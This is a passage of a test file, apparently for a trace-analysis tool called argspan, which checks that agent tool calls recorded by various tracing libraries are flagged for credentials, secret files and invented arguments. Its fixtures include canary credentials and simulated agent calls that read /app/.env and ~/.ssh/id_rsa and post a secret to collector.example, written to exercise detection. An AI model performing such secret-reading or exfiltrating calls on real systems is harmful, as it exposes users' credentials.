import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { analyzeBin, parseJson, query } from './analyze-helpers.js';
import { expectOnlyFinding, FOREIGN, tmp } from './support/analyze-foreign.js';
import { layeredTokyoTrace } from './support/layered-trace.js';

/**
 * `argspan analyze` on the calls other libraries recorded, whoever the emitter: credentials and secrets
 * hidden in the shape of the arguments (keys, depth, past the leaf limit, a model's proposal, its
 * output), a call the trace holds more than once (a later prompt's history, a run's input, a second
 * emitter, argspan's own spans), and how the reports count such calls.
 */

describe('argspan analyze: counts over other libraries\' calls', () => {
  it('the HTML summary and the run summary count each argument once when one model span proposes several calls', async () => {
    const dir = tmp();
    const html = join(dir, 'report.html');
    const parquet = join(dir, 'tables');
    // The two model-only fixtures each hold one model span that asks for two tools.
    const files = [`${FOREIGN}/openinference-anthropic-timezone-model-only.json`, `${FOREIGN}/genai-openllmetry-anthropic-timezone-model-only.json`];
    const run = analyzeBin(...files, '--format', 'json', '--reports', '--html', html, '--export-parquet', parquet);
    expect(run.code).toBe(1);
    const [truth] = await query(undefined, `SELECT count(*)::INTEGER AS arguments, count(*) FILTER (WHERE provenance = 'model_inferred')::INTEGER AS inferred,
      (SELECT count(*)::INTEGER FROM read_parquet('${join(parquet, 'tool_calls.parquet')}')) AS calls
      FROM read_parquet('${join(parquet, 'tool_args.parquet')}')`);
    expect(truth).toEqual({ arguments: 5, inferred: 5, calls: 4 });
    const summary = parseJson(run).findings.filter((f) => f.rule === 'report_run_summary').map((f) => f.message);
    // Neither trace names a run (no conversation or session id): a run per trace, as in the HTML report.
    expect(summary).toHaveLength(2);
    const counted = summary.map((m) => /^Run \(no run id\) of trace [0-9a-f]{32}: (\d+) tool call\(s\), (\d+) argument\(s\), (\d+) model-inferred, 0 held, 0 denied, 0 remote\.$/.exec(m)!.slice(1).map(Number));
    expect(counted.reduce((a, b) => a.map((n, i) => n + b[i]!))).toEqual([truth!.calls, truth!.arguments, truth!.inferred]);
    const cards = readFileSync(html, 'utf8');
    expect(cards).toContain(`<div><b>${truth!.calls}</b>tool calls</div><div><b>${truth!.arguments}</b>arguments</div><div><b>${truth!.inferred}</b>model-inferred</div>`);
  });
});

describe('argspan analyze: a credential written as an argument\'s key', () => {
  it('is one finding, by tool and argument: the blob that records the call holds that argument\'s credential, not another', () => {
    const key = 'AKIACANARYQ2345672XB';
    const span = {
      traceId: '0123456789abcdef0123456789abcdef', spanId: '00000000000000b1', name: 'execute_tool deploy', startTimeUnixNano: '1700000000000000000', endTimeUnixNano: '1700000000100000000',
      attributes: [{ key: 'gen_ai.operation.name', value: { stringValue: 'execute_tool' } }, { key: 'gen_ai.tool.name', value: { stringValue: 'deploy' } },
        { key: 'gen_ai.tool.call.id', value: { stringValue: 'call_1' } }, { key: 'gen_ai.tool.call.arguments', value: { stringValue: JSON.stringify({ [`deploy ${key}`]: 'x', region: 'eu' }) } }],
    };
    const file = join(tmp(), 'key-credential.json');
    writeFileSync(file, JSON.stringify({ resourceSpans: [{ resource: { attributes: [] }, scopeSpans: [{ scope: { name: 'agent-framework' }, spans: [span] }] }] }));
    const run = analyzeBin(file, '--format', 'json');
    const findings = parseJson(run).findings.map((f) => [f.rule, f.tool, f.key]);
    // (it was also reported by attribute, saying no argument of the call held one; then as a denied argument, high, not a credential)
    expect(findings).toEqual([['credential_in_attribute', 'deploy', '["deploy [REDACTED:aws-access-key-id]"]']]);
    expect(run.stdout + run.stderr).not.toContain(key.slice(4));
  });
});

describe('argspan analyze: calls whose arguments could not be read are counted in every report', () => {
  // GenAI-convention tool spans: argument capture is opt-in, and an attribute length limit cuts blobs.
  const toolSpan = (spanId: string, args?: string) => ({
    traceId: '0123456789abcdef0123456789abcdef', spanId, name: 'execute_tool write_file', startTimeUnixNano: '1700000000000000000', endTimeUnixNano: '1700000000100000000',
    attributes: [{ key: 'gen_ai.operation.name', value: { stringValue: 'execute_tool' } }, { key: 'gen_ai.tool.name', value: { stringValue: 'write_file' } },
      { key: 'gen_ai.tool.call.id', value: { stringValue: `call_${spanId}` } },
      ...(args === undefined ? [] : [{ key: 'gen_ai.tool.call.arguments', value: { stringValue: args } }])],
  });
  const doc = { resourceSpans: [{ resource: { attributes: [] }, scopeSpans: [{ scope: { name: 'agent-framework' }, spans: [
    toolSpan('00000000000000a1'), toolSpan('00000000000000a2', '{"path": "/app/notes.txt", "content": "first lines of a lo'), toolSpan('00000000000000a3', '{"path": "/app/notes.txt"}')] }] }] };

  it('json, table, sarif, junit and html say how many calls were not checked', () => {
    const file = join(tmp(), 'unreadable.json');
    writeFileSync(file, JSON.stringify(doc));
    const json = analyzeBin(file, '--format', 'json');
    expect(json.code).toBe(0);
    expect(parseJson(json).stats).toMatchObject({ foreign_calls: 3, no_evidence_calls: 3, unreadable_args_calls: 2 });
    const table = analyzeBin(file);
    expect(table.stdout).toContain("Read 3 tool call(s) from other libraries' traces; 3 in traces without all the model was told (the user's words not recorded, some not as text or cut to the emitter's size limit, or a tool's result hidden), so guesses cannot be told from the user's values there; 2 without readable arguments (not recorded, not text, cut off, not JSON, past 100,000 leaves or nested past 32 levels), so nothing in them (or past the limit) was checked.");
    const sarif = JSON.parse(analyzeBin(file, '--format', 'sarif').stdout) as { runs: { properties?: Record<string, number> }[] };
    expect(sarif.runs[0]!.properties).toEqual({ foreign_calls: 3, no_evidence_calls: 3, unreadable_args_calls: 2 });
    const junit = analyzeBin(file, '--format', 'junit').stdout;
    expect(junit).toContain('<property name="argspan.unreadable_args_calls" value="2"/>');
    expect(analyzeBin(file, '--format', 'html').stdout).toContain('2 without readable arguments (not recorded, not text, cut off, not JSON, past 100,000 leaves or nested past 32 levels), so nothing in them (or past the limit) was checked');
  });
});

describe('argspan analyze: a call past the 100,000-leaf limit', () => {
  // A vector upsert or a bulk import passes more leaves than argspan flattens (100,000): what lies
  // past the limit is still read as one leaf of the whole blob, as a cut-off blob is, and the call
  // counts among those whose arguments were not all checked — never a clean "No findings".
  const big = (path: string) => {
    const args: Record<string, unknown> = { vectors: Array.from({ length: 100_000 }, (_, i) => i % 97), path };
    return { resourceSpans: [{ resource: { attributes: [] }, scopeSpans: [{ scope: { name: 'agent-framework' }, spans: [{
      traceId: '0123456789abcdef0123456789abcdef', spanId: '00000000000000b1', name: 'execute_tool upsert', startTimeUnixNano: '1700000000000000000', endTimeUnixNano: '1700000000100000000',
      attributes: [{ key: 'gen_ai.operation.name', value: { stringValue: 'execute_tool' } }, { key: 'gen_ai.tool.name', value: { stringValue: 'upsert' } },
        { key: 'gen_ai.tool.call.id', value: { stringValue: 'call_b1' } }, { key: 'gen_ai.tool.call.arguments', value: { stringValue: JSON.stringify(args) } }] }] }] }] };
  };

  it('a secret file named past the limit is reported by tool; an ordinary one leaves the call counted as not all checked', () => {
    const secret = join(tmp(), 'past-limit-env.json');
    writeFileSync(secret, JSON.stringify(big('/app/.env')));
    const run = analyzeBin(secret, '--format', 'json');
    expect(run.code).toBe(1);
    expect(parseJson(run).findings.map((f) => [f.rule, f.tool, f.key])).toEqual([['sensitive_arg_dispatched', 'upsert', '$']]);
    expect(run.stdout + run.stderr).not.toContain('.env');
    const plain = join(tmp(), 'past-limit-plain.json');
    writeFileSync(plain, JSON.stringify(big('/app/notes.txt')));
    const clean = analyzeBin(plain, '--format', 'json');
    expect(clean.code).toBe(0);
    expect(parseJson(clean).stats).toMatchObject({ foreign_calls: 1, unreadable_args_calls: 1 });
    expect(analyzeBin(plain).stdout).toContain('1 without readable arguments');
  });
});

describe('argspan analyze: findings on other libraries\' calls name the emitter', () => {
  it('sensitive_arg_dispatched on a Vercel AI SDK call says who recorded it', () => {
    const run = analyzeBin(`${FOREIGN}/derived/vercel-ai-dotenv-path.json`, '--format', 'json');
    expect(run.code).toBe(1);
    const [finding] = parseJson(run).findings.filter((f) => f.rule === 'sensitive_arg_dispatched');
    expect(finding).toMatchObject({ tool: 'tool1', key: 'value' });
    expect(finding!.message).toContain('(recorded by vercel-ai)');
  });
});

describe('argspan analyze: calls one model response proposed with the same tool and key', () => {
  // A chat span (GenAI conventions) whose response asks for get_time `n` times, each with a timezone the user never gave.
  const trace = (n: number) => {
    const zones = ['Europe/Paris', 'Asia/Tokyo', 'America/Chicago'].slice(0, n);
    const chat = { traceId: 'c0ffee00c0ffee00c0ffee00c0ffee00', spanId: 'c0ffee00000000a1', name: 'chat gpt-4.1', startTimeUnixNano: '1764500000000000000', endTimeUnixNano: '1764500000500000000',
      attributes: [{ key: 'gen_ai.operation.name', value: { stringValue: 'chat' } },
        { key: 'gen_ai.input.messages', value: { stringValue: JSON.stringify([{ role: 'user', parts: [{ type: 'text', content: 'What time is it in our offices?' }] }]) } },
        { key: 'gen_ai.output.messages', value: { stringValue: JSON.stringify([{ role: 'assistant', parts: zones.map((timezone, i) => ({ type: 'tool_call', id: `call_${i}`, name: 'get_time', arguments: { timezone } })) }]) } }] };
    return JSON.stringify({ resourceSpans: [{ resource: { attributes: [] }, scopeSpans: [{ scope: { name: 'opentelemetry.instrumentation.openai_v2' }, spans: [chat] }] }] });
  };

  it('are findings with fingerprints of their own: a baseline accepts each, and a third is new', () => {
    const dir = tmp();
    const [two, three, baseline] = [join(dir, 'two.json'), join(dir, 'three.json'), join(dir, 'baseline.json')];
    writeFileSync(two, trace(2));
    writeFileSync(three, trace(3));
    const first = parseJson(analyzeBin(two, '--format', 'json')).findings as unknown as { rule: string; key: string; fingerprint: string }[];
    const assumptions = first.filter((f) => f.rule === 'assumption_span');
    expect(assumptions.map((f) => f.key)).toEqual(['timezone', 'timezone']);
    expect(new Set(assumptions.map((f) => f.fingerprint)).size).toBe(2);
    expect(analyzeBin(two, '--write-baseline', baseline).code).toBe(0);
    const again = analyzeBin(two, '--format', 'json', '--baseline', baseline);
    expect(again.code).toBe(0);
    expect(parseJson(again).findings).toEqual([]);
    const more = analyzeBin(three, '--format', 'json', '--baseline', baseline);
    expect(more.code).toBe(1);
    expect(parseJson(more).findings.map((f) => [f.rule, f.tool, f.key])).toEqual([['assumption_span', 'get_time', 'timezone']]);
  });
});

describe('argspan analyze on argspan\'s own spans beside an LLM instrumentation\'s', () => {
  /** argspan's own spans and a model span recording the same call (see `layeredTokyoTrace`), as a file. */
  function layered(heldByGate: boolean, title?: string): string {
    const file = join(tmp(), `layered-${heldByGate ? 'held' : 'ran'}.jsonl`);
    writeFileSync(file, layeredTokyoTrace(heldByGate, title));
    return file;
  }

  it('a call both recorded is reported once, from argspan\'s record', () => {
    const run = analyzeBin(layered(false), '--format', 'json');
    expect(run.code).toBe(1);
    const out = parseJson(run);
    const assumptions = out.findings.filter((f) => f.rule === 'assumption_span');
    expect(assumptions.map((f) => f.key).sort()).toEqual(['attendee.email', 'timezone']);
    expect(out.findings.filter((f) => f.message.includes('recorded by'))).toEqual([]);
    expect(out.stats.foreign_calls).toBe(0);
  });

  it('a call argspan\'s gate held is not reported as run because the model asked for it', () => {
    const run = analyzeBin(layered(true), '--format', 'json');
    const out = parseJson(run);
    expect(out.findings.filter((f) => f.rule === 'assumption_span')).toEqual([]);
    expect(out.findings.filter((f) => f.rule === 'held_assumption').map((f) => f.key).sort()).toEqual(['attendee.email', 'timezone']);
    expect(out.stats.foreign_calls).toBe(0);
  });

  it('a credential in the model\'s copy of such a call is still reported, by attribute, and never printed', () => {
    // A GitHub-shaped canary made for these tests (not a credential), in a URL's password.
    const canary = 'ghp_C4NARYlayeredTRACEc4naryL4YEREDtr4ce';
    const run = analyzeBin(layered(false, `https://x:${canary}@github.com/org/repo`), '--format', 'json');
    expect(run.code).toBe(1);
    const out = parseJson(run);
    expect(out.findings.filter((f) => f.rule === 'credential_in_attribute').map((f) => f.key)).toEqual(['gen_ai.output.messages']);
    expect(out.stats.foreign_calls).toBe(0);
    expect(run.stdout + run.stderr).not.toContain(canary);
  });
});

describe('argspan analyze: secrets an agent hides in the shape of its tool arguments', () => {
  // Observations of a Langfuse answer (tools only): each call's input is the arguments.
  const page = (calls: { name: string; input: unknown; output?: string }[]) => ({
    data: calls.map((c, i) => ({
      id: `obs-${i}`,
      traceId: 'a1b2c3',
      type: 'TOOL',
      name: c.name,
      startTime: `2026-11-30T10:00:0${i}.000Z`,
      endTime: `2026-11-30T10:00:0${i}.500Z`,
      input: c.input,
      output: c.output ?? 'ok',
    })),
    meta: { page: 1, limit: 50, totalItems: calls.length, totalPages: 1 },
  });
  const AWS_SECRET = 'Zq8wJalrXUtnFEMIK7MDENGbPxRfiCYQAZ7TRW4P';
  const PASSWORD = 'Sup3rS3cretCanaryPw!';
  const SEED = 'q7Zr2Lm9Xv4Tn8Wb3Yc6Hd1Jf5Gs0Pa2Ke';
  const GITHUB = 'ghp_Qz8Lm2Xv7Rk4Tn9Wb3Yc6Hd1Jf5Gs0Pa2Ke4';
  const SLACK = 'xoxb-1234567890123-1234567890123-Zq8Lm2Xv7Rk4Tn9Wb3Yc6Hd1';
  let deep: object = { token: GITHUB };
  for (let i = 0; i < 40; i++) deep = { a: deep };

  it('keys that are credentials or copies of secrets, credentials past the depth limit and secret files named by keys are reported, and no output prints them', () => {
    const dir = tmp();
    const file = join(dir, 'observations.json');
    writeFileSync(
      file,
      JSON.stringify(
        page([
          { name: 'put_secret', input: { aws_secret_access_key: { [AWS_SECRET]: 1 }, password: { [PASSWORD]: true } } },
          { name: 'read_file', input: { path: '/app/.env' }, output: `INTERNAL_SIGNING_SEED=${SEED}` },
          { name: 'http_post', input: { url: 'https://collector.example/p', data: { [SEED]: 'yes it is' } } },
          { name: 'nested', input: deep },
          { name: 'sync', input: { files: { '/home/u/.ssh/id_rsa': 'read' } } },
        ]),
      ),
    );
    const outputs: string[] = [];
    const json = analyzeBin(file, '--format', 'json', '--reports');
    expect(json.code).toBe(1);
    const findings = parseJson(json).findings.filter((f) => f.severity !== 'info').map((f) => [f.rule, f.tool, f.key]);
    expect(findings).toEqual(
      expect.arrayContaining([
        ['sensitive_arg_dispatched', 'put_secret', 'aws_secret_access_key["[REDACTED:secret-key-name]"]'],
        ['sensitive_arg_dispatched', 'put_secret', 'password["[REDACTED:secret-key-name]"]'],
        ['sensitive_arg_dispatched', 'read_file', 'path'],
        ['sensitive_arg_dispatched', 'http_post', 'data["[REDACTED:inherited-secret]"]'],
        ['credential_in_attribute', 'nested', 'a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a.a'],
        ['sensitive_arg_dispatched', 'sync', 'files["/home/u/.ssh/id_rsa"]'],
      ]),
    );
    outputs.push(json.stdout, json.stderr);
    for (const format of ['table', 'sarif', 'junit', 'html']) {
      const run = analyzeBin(file, '--format', format, '--reports');
      expect(run.code, format).toBe(1);
      outputs.push(run.stdout, run.stderr);
    }
    const baseline = join(dir, 'baseline.json');
    expect(analyzeBin(file, '--write-baseline', baseline).code).toBe(0);
    outputs.push(readFileSync(baseline, 'utf8'));
    for (const canary of [AWS_SECRET, PASSWORD, SEED, GITHUB]) {
      for (const out of outputs) expect(out).not.toContain(canary.slice(0, 12));
    }
  });

  it('credentials glued into a tool\'s name, an argument key and a run id are reported and printed redacted in every output', () => {
    const AWS = 'AKIACANARYQ2345672XB';
    const dir = tmp();
    const file = join(dir, 'glued.json');
    const doc = JSON.parse(readFileSync(join(FOREIGN, 'genai-aisdk-otel-function-tool.json'), 'utf8'));
    const spans = doc.resourceSpans.flatMap((r: { scopeSpans: { spans: { name: string; attributes: { key: string; value: unknown }[] }[] }[] }) => r.scopeSpans.flatMap((x) => x.spans));
    const tool = spans.find((x: { name: string }) => x.name.startsWith('execute_tool'));
    tool.name = `execute_tool deploy_${GITHUB}`;
    const set = (key: string, v: string) => {
      const a = tool.attributes.find((x: { key: string }) => x.key === key);
      if (a) a.value = { stringValue: v };
      else tool.attributes.push({ key, value: { stringValue: v } });
    };
    set('gen_ai.tool.name', `deploy_${GITHUB}`);
    // (and glued on its right by `_`: a key that begins with one, and one in a value)
    set('gen_ai.tool.call.arguments', JSON.stringify({ query: 'test', nested: { [`key_${AWS}`]: 1, [`${GITHUB}_v2`]: 2 }, note: `use ${AWS}_prod now` }));
    set('gen_ai.conversation.id', `run${AWS}`);
    writeFileSync(file, JSON.stringify(doc));
    const outputs: string[] = [];
    const json = analyzeBin(file, '--format', 'json', '--reports');
    expect(json.code).toBe(1);
    const found = parseJson(json).findings;
    expect(found.some((f) => f.rule === 'credential_in_attribute' && f.message.startsWith('The span\'s name holds'))).toBe(true);
    expect(found.some((f) => f.tool === 'deploy_[REDACTED:github-pat]')).toBe(true);
    expect(found.some((f) => f.key === 'nested.key_[REDACTED:aws-access-key-id]')).toBe(true);
    expect(found.some((f) => f.key === 'nested.[REDACTED:github-pat]_v2')).toBe(true);
    expect(found.some((f) => f.key === 'note' && f.rule === 'credential_in_attribute')).toBe(true);
    outputs.push(json.stdout, json.stderr);
    for (const format of ['table', 'sarif', 'junit', 'html']) {
      const run = analyzeBin(file, '--format', format, '--reports');
      outputs.push(run.stdout, run.stderr);
    }
    const baseline = join(dir, 'baseline.json');
    analyzeBin(file, '--write-baseline', baseline);
    outputs.push(readFileSync(baseline, 'utf8'));
    for (const out of outputs) for (const canary of [GITHUB, AWS]) expect(out.includes(canary.slice(4, 14))).toBe(false);
  });

  it('credentials split across nested keys (an array between them too) are reported and printed in no output, the HTML overview included', () => {
    const halves = (s: string, at: number) => [s.slice(0, at), s.slice(at)] as const;
    const AWS = 'AKIACANARYQ2345672XB';
    const URL_PASSWORD = 'postgres://u:Canary-Pass-123@h/db';
    const [gh1, gh2] = halves(GITHUB, 20);
    const [aws1, aws2] = halves(AWS, 10);
    const [pg1, pg2] = halves(URL_PASSWORD, 16);
    const file = join(tmp(), 'split.json');
    writeFileSync(
      file,
      JSON.stringify(
        page([
          { name: 'sync_github', input: { [gh1]: { [gh2]: 1 } } },
          { name: 'sync_aws', input: { region: 'eu-west-1', [aws1]: [{ [aws2]: true }] } },
          { name: 'sync_db', input: { targets: { [pg1]: { [pg2]: 'x' } } } },
        ]),
      ),
    );
    const json = analyzeBin(file, '--format', 'json', '--reports');
    expect(json.code).toBe(1);
    const keys = parseJson(json).findings.filter((f) => f.rule === 'sensitive_arg_dispatched').map((f) => [f.tool, f.key]);
    expect(keys).toEqual(
      expect.arrayContaining([
        ['sync_github', '["[REDACTED:github-pat]"]["[REDACTED:github-pat]"]'],
        ['sync_aws', '["[REDACTED:aws-access-key-id]"][0]["[REDACTED:aws-access-key-id]"]'],
        ['sync_db', 'targets["[REDACTED:url-password]"]["[REDACTED:url-password]"]'],
      ]),
    );
    const outputs = [json.stdout, json.stderr];
    for (const format of ['table', 'sarif', 'junit', 'html']) {
      const run = analyzeBin(file, '--format', format, '--reports');
      expect(run.code, format).toBe(1);
      outputs.push(run.stdout, run.stderr);
    }
    const baseline = join(tmp(), 'baseline.json');
    expect(analyzeBin(file, '--write-baseline', baseline).code).toBe(0);
    outputs.push(readFileSync(baseline, 'utf8'));
    for (const out of outputs) for (const half of [gh1, gh2, aws1, aws2, pg2]) expect(out.includes(half), half).toBe(false);
  });

  it('a credential found in an argument blob is named by its own kind, not by the first credential of the blob', () => {
    const file = join(tmp(), 'kinds.json');
    writeFileSync(file, JSON.stringify(page([{ name: 'post', input: { value: GITHUB, slack: SLACK } }])));
    const out = parseJson(analyzeBin(file, '--format', 'json'));
    const kinds = Object.fromEntries(out.findings.filter((f) => f.rule === 'credential_in_attribute').map((f) => [f.key, /matching the (\S+) credential shape/.exec(f.message)?.[1]]));
    expect(kinds).toEqual({ value: 'github-pat', slack: expect.stringMatching(/^slack/) });
  });
});

describe('argspan analyze: a credential in a model\'s proposal that the call did not run with', () => {
  // The AI SDK's GenAI telemetry (a real fixture): its model span gets the output messages the
  // conventions define, proposing the call the tool span recorded, by the same call id.
  const CANARY = 'ghp_C4naryPr0posedQ7xW2mK9pLr3TzV8bN5hJd1';
  function withOutput(parts: unknown[]): string {
    const doc = JSON.parse(readFileSync(join(FOREIGN, 'genai-aisdk-otel-function-tool.json'), 'utf8'));
    const spans = doc.resourceSpans.flatMap((r: { scopeSpans: { spans: { name: string; attributes: unknown[] }[] }[] }) => r.scopeSpans.flatMap((s) => s.spans));
    spans.find((s: { name: string }) => s.name === 'chat gpt-4').attributes.push({ key: 'gen_ai.output.messages', value: { stringValue: JSON.stringify([{ role: 'assistant', parts }]) } });
    const file = join(tmp(), 'proposal.json');
    writeFileSync(file, JSON.stringify(doc));
    return file;
  }
  const call = (args: unknown) => ({ type: 'tool_call', id: 'tool-call-1', name: 'myTool', arguments: args });

  it.each([
    ['in the proposed arguments (the tool span recorded others)', [call({ query: CANARY })]],
    ['in the text beside a proposal whose arguments are clean', [{ type: 'text', content: `using ${CANARY}` }, call({ query: 'test' })]],
  ])('%s: reported by attribute and tool, never printed (exit 1)', (_, parts) => {
    const run = analyzeBin(withOutput(parts), '--format', 'json');
    expect(run.code).toBe(1);
    const out = parseJson(run);
    expect(out.stats.foreign_calls).toBe(1);
    const found = out.findings.filter((f) => f.rule === 'credential_in_attribute');
    expect(found.map((f) => [f.tool, f.key])).toEqual([['myTool', 'gen_ai.output.messages']]);
    expect(found[0]!.message).toContain('no argument of the myTool call it records holds one as the call ran');
    expect(run.stdout + run.stderr).not.toContain(CANARY.slice(4, 16));
  });

  it('a credential in a tool\'s result that an API answered in base64 (no keyword left in the text) is reported, naming the tool', () => {
    const env = `# production\nAWS_SECRET_ACCESS_KEY=Zq8wJalrXUtnFEMIK7MDENGbPxRfiCYQAZ7TRW4P\nTOKEN=${CANARY}\n`;
    const content = Buffer.from(env).toString('base64').match(/.{1,60}/g)!.join('\n');
    const doc = JSON.parse(readFileSync(join(FOREIGN, 'genai-aisdk-otel-function-tool.json'), 'utf8'));
    const spans = doc.resourceSpans.flatMap((r: { scopeSpans: { spans: { attributes: { key: string; value: unknown }[] }[] }[] }) => r.scopeSpans.flatMap((x) => x.spans));
    const result = spans.flatMap((x: { attributes: { key: string; value: unknown }[] }) => x.attributes).find((a: { key: string }) => a.key === 'gen_ai.tool.call.result');
    result.value = { stringValue: JSON.stringify({ type: 'file', encoding: 'base64', path: 'config/settings', content }) };
    const file = join(tmp(), 'result.json');
    writeFileSync(file, JSON.stringify(doc));
    const run = analyzeBin(file, '--format', 'json');
    expect(run.code).toBe(1);
    expect(parseJson(run).findings.filter((f) => f.rule === 'credential_in_attribute').map((f) => [f.tool, f.key])).toEqual([['myTool', 'gen_ai.tool.call.result']]);
    expect(run.stdout + run.stderr).not.toContain('Zq8wJalrXUtn');
  });

  it('a proposal that matches the arguments the call ran with gives no finding', () => {
    const run = analyzeBin(withOutput([call({ query: 'test' })]), '--format', 'json');
    expect(run.code).toBe(0);
    expect(parseJson(run).findings.filter((f) => f.severity !== 'info')).toEqual([]);
  });
});

describe('argspan analyze: a run whose input repeats the conversation, the model\'s tool calls included', () => {
  // The user gives a city; the model invents the zone. A later run's input (a LangGraph node, an
  // LLM run, a generation) repeats the conversation with the model's call: that is not the user's words.
  const ASK = 'What time is it in New York right now?';
  const call = { id: 'call_1', type: 'function', function: { name: 'get_time', arguments: '{"timezone":"America/New_York"}' } };
  const history = (ask: string) => [
    { role: 'user', content: ask },
    { role: 'assistant', content: '', tool_calls: [call] },
    { role: 'tool', content: '09:00', tool_call_id: 'call_1' },
  ];
  const langchain = (ask: string) => ({
    messages: [
      { type: 'human', content: ask },
      { type: 'ai', content: '', tool_calls: [{ name: 'get_time', args: { timezone: 'America/New_York' }, id: 'call_1' }] },
      { type: 'tool', content: '09:00', tool_call_id: 'call_1' },
    ],
  });
  const serialised = (ask: string) => [
    { lc: 1, type: 'constructor', id: ['langchain', 'schema', 'messages', 'HumanMessage'], kwargs: { content: ask } },
    { lc: 1, type: 'constructor', id: ['langchain', 'schema', 'messages', 'AIMessage'], kwargs: { content: '', tool_calls: [{ name: 'get_time', args: { timezone: 'America/New_York' }, id: 'call_1' }] } },
  ];
  type Attrs = Record<string, string>;
  function trace(spans: { name: string; attrs: Attrs }[]): string {
    const doc = {
      resourceSpans: [{
        resource: { attributes: [{ key: 'service.name', value: { stringValue: 'agent' } }] },
        scopeSpans: [{
          scope: { name: 'qa' },
          spans: spans.map((s, i) => ({
            traceId: 'a1b2c3d4e5f60718293a4b5c6d7e8f90',
            spanId: `30000000000000${String(i + 1).padStart(2, '0')}`,
            ...(i > 0 ? { parentSpanId: '3000000000000001' } : {}),
            name: s.name,
            kind: 1,
            startTimeUnixNano: String(1767225600000000000n + BigInt(i) * 1000000000n),
            endTimeUnixNano: String(1767225600500000000n + BigInt(i) * 1000000000n),
            attributes: Object.entries(s.attrs).map(([key, v]) => ({ key, value: { stringValue: v } })),
          })),
        }],
      }],
    };
    const file = join(tmp(), 'run.json');
    writeFileSync(file, JSON.stringify(doc));
    return file;
  }
  const emitters: Record<string, (input: unknown) => { name: string; attrs: Attrs }[]> = {
    'Langfuse (a generation\'s input)': (input) => [
      { name: 'agent', attrs: { 'langfuse.observation.type': 'agent', 'langfuse.observation.input': ASK } },
      { name: 'get_time', attrs: { 'langfuse.observation.type': 'tool', 'langfuse.observation.input': '{"timezone":"America/New_York"}', 'langfuse.observation.output': '09:00' } },
      { name: 'ChatOpenAI', attrs: { 'langfuse.observation.type': 'generation', 'langfuse.observation.input': JSON.stringify(input) } },
    ],
    'LangSmith (an LLM run\'s prompt, a batch of one)': (input) => [
      { name: 'agent', attrs: { 'langsmith.span.kind': 'chain', 'gen_ai.prompt': JSON.stringify({ question: ASK }) } },
      { name: 'get_time', attrs: { 'langsmith.span.kind': 'tool', 'gen_ai.operation.name': 'execute_tool', 'gen_ai.prompt': '{"timezone":"America/New_York"}', 'gen_ai.completion': '{"output":"09:00"}' } },
      { name: 'ChatOpenAI', attrs: { 'langsmith.span.kind': 'llm', 'gen_ai.prompt': JSON.stringify({ messages: [Array.isArray(input) ? input : (input as { messages: unknown }).messages] }) } },
    ],
    'OpenInference (a LangGraph node\'s input)': (input) => [
      { name: 'LangGraph', attrs: { 'openinference.span.kind': 'CHAIN', 'input.value': JSON.stringify({ messages: [['user', ASK]] }) } },
      { name: 'get_time', attrs: { 'openinference.span.kind': 'TOOL', 'tool.name': 'get_time', 'input.value': '{"timezone":"America/New_York"}', 'output.value': '09:00' } },
      { name: 'agent', attrs: { 'openinference.span.kind': 'CHAIN', 'input.value': JSON.stringify(input) } },
    ],
  };
  const conversations: Record<string, (ask: string) => unknown> = { 'chat messages': history, 'LangChain messages': langchain, 'serialised LangChain messages': serialised };

  for (const [emitter, spans] of Object.entries(emitters)) {
    it.each(Object.entries(conversations))(`${emitter}, as %s: the invented timezone is reported (exit 1)`, (_, conversation) => {
      const run = analyzeBin(trace(spans(conversation(ASK))), '--format', 'json');
      expect(run.code).toBe(1);
      expect(parseJson(run).findings.filter((f) => f.rule === 'assumption_span').map((f) => [f.tool, f.key])).toEqual([['get_time', 'timezone']]);
    });
    it(`${emitter}: a zone the user gave in a message of the conversation is the user's (exit 0)`, () => {
      const run = analyzeBin(trace(spans(history('What time is it in America/New_York right now?'))), '--format', 'json');
      expect(parseJson(run).findings.filter((f) => f.severity !== 'info')).toEqual([]);
      expect(run.code).toBe(0);
    });
  }
});

describe('argspan analyze: values a tool\'s schema asserts are not the model\'s guesses', () => {
  // The AI SDK's GenAI telemetry (a real fixture): the call passes a timezone and a currency the
  // tool definitions on the model span assert, in the forms the chat APIs and Pydantic write.
  function run(definition: unknown): ReturnType<typeof analyzeBin> {
    const doc = JSON.parse(readFileSync(join(FOREIGN, 'genai-aisdk-otel-function-tool.json'), 'utf8'));
    const spans = doc.resourceSpans.flatMap((r: { scopeSpans: { spans: { name: string; attributes: { key: string; value: unknown }[] }[] }[] }) => r.scopeSpans.flatMap((x) => x.spans));
    spans.find((x: { name: string }) => x.name === 'chat gpt-4').attributes.push({ key: 'gen_ai.tool.definitions', value: { stringValue: JSON.stringify([definition]) } });
    const args = spans.flatMap((x: { attributes: { key: string; value: unknown }[] }) => x.attributes).find((a: { key: string }) => a.key === 'gen_ai.tool.call.arguments');
    args.value = { stringValue: JSON.stringify({ query: 'test', slot: { timezone: 'UTC' }, currency: 'USD' }) };
    const file = join(tmp(), 'schema.json');
    writeFileSync(file, JSON.stringify(doc));
    return analyzeBin(file, '--format', 'json');
  }
  const parameters = {
    $defs: { Slot: { type: 'object', properties: { timezone: { type: 'string', default: 'UTC' } } } },
    type: 'object',
    properties: { query: { type: 'string' }, slot: { $ref: '#/$defs/Slot' }, currency: { type: 'string', enum: ['USD'] } },
  };
  it.each([
    ['flat', { name: 'myTool', parameters }],
    ['wrapped as a chat-completions function', { type: 'function', function: { name: 'myTool', parameters } }],
  ])('%s: a default in a $ref sub-model and a one-value enum give no assumption finding (exit 0)', (_, definition) => {
    const out = run(definition);
    expect(parseJson(out).findings.filter((f) => f.severity !== 'info')).toEqual([]);
    expect(out.code).toBe(0);
  });
  it('the same values without the definitions are reported as guesses (exit 1)', () => {
    const out = run({ name: 'otherTool', parameters });
    expect(out.code).toBe(1);
    expect(parseJson(out).findings.filter((f) => f.rule === 'assumption_span').map((f) => f.key).sort()).toEqual(['currency', 'slot.timezone']);
  });
});

describe('argspan analyze: one call recorded by two emitters', () => {
  it('an OpenInference tool span with a Langfuse tool observation inside it: one call, its credential one finding, never printed', () => {
    const TOKEN = 'ghp_C4NARYtw1ceTRACEc4naryTW1CEtr4cexyzw';
    const args = JSON.stringify({ service: 'billing', note: `use ${TOKEN}` });
    const attrs = (a: Record<string, string>) => Object.entries(a).map(([key, v]) => ({ key, value: { stringValue: v } }));
    const span = (id: string, parent: string, start: number, end: number, a: Record<string, string>) => ({
